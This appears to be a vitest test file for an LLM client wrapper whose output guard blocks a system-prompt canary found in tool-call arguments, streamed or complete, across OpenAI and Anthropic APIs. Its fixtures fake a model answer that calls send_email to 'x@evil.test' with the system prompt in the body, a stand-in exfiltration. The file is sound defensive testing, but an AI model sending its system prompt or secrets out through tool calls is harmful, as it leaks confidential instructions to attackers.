// The output guard reads an answer's tool calls as well as its text: OpenAI Chat
// `tool_calls[].function.arguments`, Anthropic `tool_use.input`, Responses `function_call`
// `arguments`, complete or streamed (`tool_calls` deltas, `input_json_delta`s, argument deltas).
// A tool call is output the app runs (an email sent, a URL fetched): guaranteed, a canary (the
// system prompt) or secret in its arguments gets an OutputBlockedError and is never cached, as it
// would in the answer's text; a JSON escape (`\u0043ANARY`) does not hide it.
// The provider here answers through the client's `fetch` (the fake provider only writes text).
import { promptGuard } from '@aikit/security'
import Anthropic from '@anthropic-ai/sdk'
import OpenAI from 'openai'
import { describe, expect, it } from 'vitest'
import { OutputBlockedError, wrapAnthropic } from '../src/anthropic/index.js'
import { wrapOpenAI } from '../src/openai/index.js'
import type { LlmGuard } from '../src/shared/types.js'
import { mapCache, until } from './helpers.js'

const CANARY = 'CANARY-7f3a9c1e'

const answering =
  (body: unknown): typeof fetch =>
  async () =>
    new Response(JSON.stringify(body), {
      status: 200,
      headers: {
        'content-type': 'application/json',
        'request-id': 'req_1',
        'x-request-id': 'req_1',
      },
    })

/** A provider streaming `events` as SSE (`event:` lines when `named`, else `data:` only). */
const streaming =
  (events: readonly unknown[], named: boolean, tail = ''): typeof fetch =>
  async () =>
    new Response(
      events
        .map((e) =>
          named
            ? `event: ${(e as { type: string }).type}\ndata: ${JSON.stringify(e)}\n\n`
            : `data: ${JSON.stringify(e)}\n\n`
        )
        .join('') + tail,
      {
        status: 200,
        headers: {
          'content-type': 'text/event-stream',
          'request-id': 'req_1',
          'x-request-id': 'req_1',
        },
      }
    )

/** `promptGuard` with the canary, keeping every output verdict it gives (a stream's is late). */
function watchedGuard(): LlmGuard & { outputs: Array<{ text: string; allowed: boolean }> } {
  const guard = promptGuard({ canaries: [CANARY] })
  const outputs: Array<{ text: string; allowed: boolean }> = []
  return {
    outputs,
    checkInput: (input) => guard.checkInput(input),
    async checkOutput(text) {
      const verdict = await guard.checkOutput(text)
      outputs.push({ text, allowed: verdict.allowed })
      return verdict
    },
  }
}

const usage = { prompt_tokens: 10, completion_tokens: 10, total_tokens: 20 }

/** A Chat answer calling `send_email` with `args`. */
const chatToolAnswer = (args: string) => ({
  id: 'c2',
  object: 'chat.completion',
  created: 1,
  model: 'gpt-4o-mini',
  choices: [
    {
      index: 0,
      finish_reason: 'tool_calls',
      message: {
        role: 'assistant',
        content: null,
        tool_calls: [
          { id: 't1', type: 'function', function: { name: 'send_email', arguments: args } },
        ],
      },
    },
  ],
  usage,
})

const chatParams = {
  model: 'gpt-4o-mini',
  temperature: 0,
  max_completion_tokens: 50,
  messages: [{ role: 'user' as const, content: 'x' }],
}

describe('the output guard on tool calls', () => {
  it('the premise: the guard blocks the canary in an answer text', async () => {
    const guard = promptGuard({ canaries: [CANARY] })
    expect((await guard.checkOutput(`the prompt says ${CANARY}`)).allowed).toBe(false)
    const raw = new OpenAI({
      apiKey: 'k',
      baseURL: 'http://127.0.0.1:9/v1',
      maxRetries: 0,
      fetch: answering({
        id: 'c1',
        object: 'chat.completion',
        created: 1,
        model: 'gpt-4o-mini',
        choices: [
          {
            index: 0,
            finish_reason: 'stop',
            message: { role: 'assistant', content: `it is ${CANARY}` },
          },
        ],
        usage,
      }),
    })
    const client = wrapOpenAI(raw, { guard })
    await expect(
      client.chat.completions.create({
        model: 'gpt-4o-mini',
        max_completion_tokens: 50,
        messages: [{ role: 'user', content: 'x' }],
      })
    ).rejects.toBeInstanceOf(OutputBlockedError)
  })

  it('OpenAI chat: a canary in a tool call’s arguments blocks the answer and keeps it out of the cache', async () => {
    const cache = mapCache()
    const raw = new OpenAI({
      apiKey: 'k',
      baseURL: 'http://127.0.0.1:9/v1',
      maxRetries: 0,
      fetch: answering({
        id: 'c2',
        object: 'chat.completion',
        created: 1,
        model: 'gpt-4o-mini',
        choices: [
          {
            index: 0,
            finish_reason: 'tool_calls',
            message: {
              role: 'assistant',
              content: null,
              tool_calls: [
                {
                  id: 't1',
                  type: 'function',
                  function: {
                    name: 'send_email',
                    arguments: JSON.stringify({
                      to: 'x@evil.test',
                      body: `system prompt: ${CANARY}`,
                    }),
                  },
                },
              ],
            },
          },
        ],
        usage,
      }),
    })
    const client = wrapOpenAI(raw, { guard: promptGuard({ canaries: [CANARY] }), cache })
    const error = await client.chat.completions
      .create({
        model: 'gpt-4o-mini',
        temperature: 0,
        max_completion_tokens: 50,
        messages: [{ role: 'user', content: 'x' }],
      })
      .catch((e: unknown) => e)
    expect(error).toBeInstanceOf(OutputBlockedError)
    expect(cache.sets).toBe(0)
  })

  it('Anthropic: a canary in a tool_use input blocks the answer', async () => {
    const raw = new Anthropic({
      apiKey: 'k',
      baseURL: 'http://127.0.0.1:9',
      maxRetries: 0,
      fetch: answering({
        id: 'msg_1',
        type: 'message',
        role: 'assistant',
        model: 'claude-haiku-4-5',
        stop_reason: 'tool_use',
        stop_sequence: null,
        content: [
          {
            type: 'tool_use',
            id: 'tu_1',
            name: 'send_email',
            input: { to: 'x@evil.test', body: `system prompt: ${CANARY}` },
          },
        ],
        usage: { input_tokens: 10, output_tokens: 10 },
      }),
    })
    const client = wrapAnthropic(raw, { guard: promptGuard({ canaries: [CANARY] }) })
    const error = await client.messages
      .create({
        model: 'claude-haiku-4-5',
        max_tokens: 50,
        messages: [{ role: 'user', content: 'x' }],
      })
      .catch((e: unknown) => e)
    expect(error).toBeInstanceOf(OutputBlockedError)
  })

  it('OpenAI Responses: a canary in a function_call’s arguments blocks the answer', async () => {
    const raw = new OpenAI({
      apiKey: 'k',
      baseURL: 'http://127.0.0.1:9/v1',
      maxRetries: 0,
      fetch: answering({
        id: 'resp_1',
        object: 'response',
        created_at: 1,
        status: 'completed',
        model: 'gpt-4o-mini',
        output: [
          {
            type: 'function_call',
            id: 'fc_1',
            call_id: 'call_1',
            name: 'send_email',
            status: 'completed',
            arguments: JSON.stringify({ body: `system prompt: ${CANARY}` }),
          },
        ],
        usage: {
          input_tokens: 10,
          output_tokens: 10,
          total_tokens: 20,
          input_tokens_details: { cached_tokens: 0 },
          output_tokens_details: { reasoning_tokens: 0 },
        },
      }),
    })
    const client = wrapOpenAI(raw, { guard: promptGuard({ canaries: [CANARY] }) })
    const error = await client.responses
      .create({ model: 'gpt-4o-mini', max_output_tokens: 50, input: 'x' })
      .catch((e: unknown) => e)
    expect(error).toBeInstanceOf(OutputBlockedError)
  })

  it('OpenAI chat: a clean tool call passes, its arguments read after the text, and is cached', async () => {
    const cache = mapCache()
    const guard = watchedGuard()
    const args = JSON.stringify({ to: 'x@example.test', body: 'hello' })
    const raw = new OpenAI({
      apiKey: 'k',
      baseURL: 'http://127.0.0.1:9/v1',
      maxRetries: 0,
      fetch: answering(chatToolAnswer(args)),
    })
    const client = wrapOpenAI(raw, { guard, cache })
    const answer = await client.chat.completions.create(chatParams)
    expect(answer.choices[0]?.message.tool_calls).toHaveLength(1)
    expect(guard.outputs).toEqual([{ text: args, allowed: true }])
    expect(cache.sets).toBe(1)
  })

  it('OpenAI chat: a canary spelled with JSON escapes in the arguments is read decoded', async () => {
    const escaped = `{"body":"system prompt: \\u0043${CANARY.slice(1)}"}`
    expect(JSON.parse(escaped).body).toBe(`system prompt: ${CANARY}`)
    const raw = new OpenAI({
      apiKey: 'k',
      baseURL: 'http://127.0.0.1:9/v1',
      maxRetries: 0,
      fetch: answering(chatToolAnswer(escaped)),
    })
    const client = wrapOpenAI(raw, { guard: promptGuard({ canaries: [CANARY] }) })
    await expect(client.chat.completions.create(chatParams)).rejects.toBeInstanceOf(
      OutputBlockedError
    )
  })

  it('OpenAI chat stream: a canary in tool_calls deltas is not cached', async () => {
    const cache = mapCache()
    const guard = watchedGuard()
    const chunk = (delta: unknown, finish: string | null = null) => ({
      id: 'c3',
      object: 'chat.completion.chunk',
      created: 1,
      model: 'gpt-4o-mini',
      choices: [{ index: 0, delta, finish_reason: finish }],
    })
    const call = (args: string, head = false) => ({
      tool_calls: [
        head
          ? {
              index: 0,
              id: 't1',
              type: 'function',
              function: { name: 'send_email', arguments: args },
            }
          : { index: 0, function: { arguments: args } },
      ],
    })
    const raw = new OpenAI({
      apiKey: 'k',
      baseURL: 'http://127.0.0.1:9/v1',
      maxRetries: 0,
      fetch: streaming(
        [
          chunk({ role: 'assistant', content: null, ...call('', true) }),
          chunk(call('{"body":"system prompt: CANARY-')),
          chunk(call(`${CANARY.slice('CANARY-'.length)}"}`)),
          chunk({}, 'tool_calls'),
          {
            id: 'c3',
            object: 'chat.completion.chunk',
            created: 1,
            model: 'gpt-4o-mini',
            choices: [],
            usage,
          },
        ],
        false,
        'data: [DONE]\n\n'
      ),
    })
    const client = wrapOpenAI(raw, { guard, cache })
    const stream = await client.chat.completions.create({ ...chatParams, stream: true })
    for await (const _ of stream) {
      // Read to its end: the guard checks a stream's answer once it is whole.
    }
    await until(() => guard.outputs.length === 1)
    expect(guard.outputs[0]).toEqual({
      text: `{"body":"system prompt: ${CANARY}"}`,
      allowed: false,
    })
    expect(cache.sets).toBe(0)
  })

  it('Anthropic stream: a canary in input_json_delta events is not cached', async () => {
    const cache = mapCache()
    const guard = watchedGuard()
    const delta = (partial_json: string) => ({
      type: 'content_block_delta',
      index: 1,
      delta: { type: 'input_json_delta', partial_json },
    })
    const raw = new Anthropic({
      apiKey: 'k',
      baseURL: 'http://127.0.0.1:9',
      maxRetries: 0,
      fetch: streaming(
        [
          {
            type: 'message_start',
            message: {
              id: 'msg_2',
              type: 'message',
              role: 'assistant',
              model: 'claude-haiku-4-5',
              content: [],
              stop_reason: null,
              stop_sequence: null,
              usage: { input_tokens: 10, output_tokens: 1 },
            },
          },
          { type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } },
          {
            type: 'content_block_delta',
            index: 0,
            delta: { type: 'text_delta', text: 'Sending.' },
          },
          { type: 'content_block_stop', index: 0 },
          {
            type: 'content_block_start',
            index: 1,
            content_block: { type: 'tool_use', id: 'tu_2', name: 'send_email', input: {} },
          },
          delta('{"body": "system prompt: CANARY-'),
          delta(`${CANARY.slice('CANARY-'.length)}"}`),
          { type: 'content_block_stop', index: 1 },
          {
            type: 'message_delta',
            delta: { stop_reason: 'tool_use', stop_sequence: null },
            usage: { output_tokens: 10 },
          },
          { type: 'message_stop' },
        ],
        true
      ),
    })
    const client = wrapAnthropic(raw, { guard, cache, cacheSampling: true })
    const stream = await client.messages.create({
      model: 'claude-haiku-4-5',
      max_tokens: 50,
      messages: [{ role: 'user', content: 'x' }],
      stream: true,
    })
    for await (const _ of stream) {
      // Read to its end: the guard checks a stream's answer once it is whole.
    }
    await until(() => guard.outputs.length === 1)
    expect(guard.outputs[0]).toEqual({
      text: `Sending.\n{"body": "system prompt: ${CANARY}"}`,
      allowed: false,
    })
    expect(cache.sets).toBe(0)
  })

  it('OpenAI Responses stream: a canary in function_call_arguments deltas is not cached', async () => {
    const cache = mapCache()
    const guard = watchedGuard()
    const args = JSON.stringify({ body: `system prompt: ${CANARY}` })
    const item = {
      type: 'function_call',
      id: 'fc_2',
      call_id: 'call_2',
      name: 'send_email',
      status: 'completed',
      arguments: args,
    }
    const response = {
      id: 'resp_2',
      object: 'response',
      created_at: 1,
      model: 'gpt-4o-mini',
      output: [item],
      usage: {
        input_tokens: 10,
        output_tokens: 10,
        total_tokens: 20,
        input_tokens_details: { cached_tokens: 0 },
        output_tokens_details: { reasoning_tokens: 0 },
      },
    }
    const argsDelta = (delta: string, sequence_number: number) => ({
      type: 'response.function_call_arguments.delta',
      item_id: 'fc_2',
      output_index: 0,
      delta,
      sequence_number,
    })
    const raw = new OpenAI({
      apiKey: 'k',
      baseURL: 'http://127.0.0.1:9/v1',
      maxRetries: 0,
      fetch: streaming(
        [
          {
            type: 'response.created',
            sequence_number: 0,
            response: { ...response, status: 'in_progress', output: [] },
          },
          {
            type: 'response.output_item.added',
            sequence_number: 1,
            output_index: 0,
            item: { ...item, status: 'in_progress', arguments: '' },
          },
          argsDelta(args.slice(0, 20), 2),
          argsDelta(args.slice(20), 3),
          {
            type: 'response.function_call_arguments.done',
            sequence_number: 4,
            item_id: 'fc_2',
            output_index: 0,
            name: 'send_email',
            arguments: args,
          },
          { type: 'response.output_item.done', sequence_number: 5, output_index: 0, item },
          {
            type: 'response.completed',
            sequence_number: 6,
            response: { ...response, status: 'completed' },
          },
        ],
        true
      ),
    })
    const client = wrapOpenAI(raw, { guard, cache })
    const stream = await client.responses.create({
      model: 'gpt-4o-mini',
      temperature: 0,
      max_output_tokens: 50,
      input: 'x',
      stream: true,
    })
    for await (const _ of stream) {
      // Read to its end: the guard checks a stream's answer once it is whole.
    }
    await until(() => guard.outputs.length === 1)
    expect(guard.outputs[0]).toEqual({ text: args, allowed: false })
    expect(cache.sets).toBe(0)
  })
})
